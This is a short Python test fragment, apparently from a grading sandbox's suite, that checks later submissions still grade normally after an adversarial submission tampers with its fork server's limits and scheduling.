    """After a submission changed its fork server's limits, priority and scheduling, is everyone
    graded after it graded normally, none crashed at start?"""
    rows = graded_class["rows"]
    later = sorted(s for s in rows if s > "atk-change-forkserver" and not s.startswith("atk-"))
    assert later == ["blank", "correct"] and {rows[s]["status"] for s in later} == {"graded"}
    assert not [s for s in rows if "setup" in rows[s]["status"] and s != "atk-lock-tmp"], rows
